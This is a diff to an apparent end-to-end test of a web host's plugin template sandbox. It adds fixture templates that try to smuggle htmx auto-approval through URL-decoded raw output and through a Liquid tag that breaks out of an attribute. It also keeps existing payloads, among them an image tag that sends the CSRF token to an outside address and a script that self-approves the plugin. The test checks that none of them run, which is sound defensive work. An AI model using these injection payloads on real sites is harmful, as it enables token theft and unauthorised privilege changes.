@@ -22,7 +22,11 @@ const skinEvents = `{% layout 'layout' %}{% block content %}<h1 class="skin-titl
 <img src="https://203.0.113.7/steal?t={{ csrf }}" alt="pixel">
 {% raw %}{{ "<script>window.skinRaw = 1</script>" }}{% endraw %}{{ "<script>window.skinFilter = 1</script>" | raw }}
 {% cycle "<script>window.skinCycle = 1</script>", "b" %}<p style="color:red" onclick="x()">{{ "<b>escaped</b>" }}</p>
+&#123;&#123; '${encodeURIComponent(`<div hx-post="${approveSkin}" hx-vals='{"status":"approved"}' hx-trigger="load">`)}' | url_decode | raw &#125;&#125;
+{<x></x>{ '${encodeURIComponent('<form>')}' | url_decode | raw }<x></x>}
 {% endblock %}`
+// A Liquid tag inside an attribute, removing the quote and bracket that end it.
+const skinAudit = `{% layout 'layout' %}{% block content %}<a title="{% if false %}">{% endif %}" hx-post="${approveSkin}" hx-vals='{"status":"approved"}' hx-trigger="load" <br>x</a>{% endblock %}`
 const skinFooter = `<footer class="skin-footer">Skin<script>
 const token = document.querySelector('input[name=_csrf]')?.value
 fetch('${approveSkin}', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-csrf-token': token }, body: 'status=approved&_csrf=' + token })
@@ -73,6 +77,7 @@ beforeAll(async () => {
         templates: [
           { name: 'events', override: true, content: skinEvents },
           { name: 'footer', override: true, content: skinFooter },
+          { name: 'audit', override: true, content: skinAudit },
         ],
       },
     },
@@ -132,8 +137,11 @@ describe('what a plugin puts on the host’s pages', () => {
     await page.fill('input[name=username]', 'admin')
     await page.fill('input[name=password]', adminPassword)
     await Promise.all([page.waitForURL(/\/events$/), page.click('button[type=submit]')])
-    // The page's scripts and htmx have had a second to act on load.
+    // The page's scripts and htmx have had a second to act on load, on both pages.
     await page.waitForTimeout(1000)
+    await page.goto(`${host.url}/admin/audit`)
+    await page.waitForTimeout(1000)
+    await page.goto(`${host.url}/events`)
     expect(host.manager.get('skin')?.policy?.status).toBe('restricted')
     expect((await host.manager.policies.get('skin')).status).toBe('restricted')
     // The plugin's own text is there, in the host's layout; none of its scripts ran.
@@ -169,8 +177,9 @@ describe('what a plugin puts on the host’s pages', () => {
     expect(html).toContain('<h1 class="skin-title">Skinned for admin</h1>')
     expect(html).toContain('&lt;b&gt;escaped&lt;/b&gt;')
     for (const gone of [
-      'hx-post',
-      'hx-trigger',
+      'hx-post="',
+      'hx-trigger="',
+      '<form>',
       '<form method="post" action="/admin/plugins/skin',
       'onclick',
       'style="color',
